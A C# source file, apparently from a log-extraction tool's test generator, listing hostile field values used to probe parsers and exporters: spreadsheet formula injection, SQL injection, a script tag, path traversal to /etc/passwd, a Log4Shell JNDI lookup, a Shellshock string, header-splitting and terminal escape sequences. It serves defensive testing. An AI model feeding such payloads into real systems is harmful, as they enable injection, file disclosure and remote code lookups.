using System.Text;

namespace CaseDesk.Extraction.Generating;

/// <summary>
/// What strangers type into a field: formulas for the spreadsheet, quotes and line ends for the parser, escapes for the terminal, paths, overlong texts.
/// No NUL: that is damage, since a text format cannot carry it.
/// </summary>
internal static class HostileContent
{
    public static readonly ArraySegment<byte>[] Handles = Encode(
        "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-202-555-0100;=1+1", "-2+3", "\t=1+1", "\r=1+1",
        "a,b\"c\"", "\"", "\"\"", "\\", "ends in \\", "line one\nline two", "line one\r\nline two", "'; DROP TABLE lookups; --",
        "<script>alert(1)</script>", "", " ", "../../../../etc/passwd", "..", "..\\..\\boot.ini", "%00%2e%2e%2f", "${jndi:ldap://example.com/a}", "{{7*7}}",
        "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u202egnp.exe", "caf\u00e9 \u0394 \u4f60\u597d \ud83d\udd75", "e\u0301", "\ufeffbom", "a\u2028b",
        // Looks like another record to whoever searches text and does not parse it.
        $"\",\"account\":\"{DemoLogs.WellKnownAccount}\",\"x\":\"", $"{{\"account\":\"{DemoLogs.WellKnownAccount}\"}}", DemoLogs.WellKnownAccount,
        "\\u002b12025550100", "null", "NaN", "1e999", new string('A', 4000), new string('"', 500));

    public static readonly ArraySegment<byte>[] UserAgents = Encode(
        "", "-", "\"quoted\" agent", "agent \\", "agent\nGET / HTTP/1.1", "agent\r\nX-Forwarded-For: 127.0.0.1", "\u001b[2Jcleared", "=HYPERLINK(\"http://example.com\",\"click\")",
        "() { :;}; echo x", "Mozilla/5.0 \" 200 1 \"-\" \"", "agent [17/May/2015:10:05:03 +0000]", new string('M', 2000), "\u00fcber-agent/1.0 \ud83d\ude80");

    public static readonly ArraySegment<byte>[] Apps = Encode("=1+1", "courier-android/8.1,\"\n", "../courier", "+courier", "courier\t8", "\u001b[0m");

    private static ArraySegment<byte>[] Encode(params string[] texts) => [.. texts.Select(text => new ArraySegment<byte>(Encoding.UTF8.GetBytes(text)))];
}
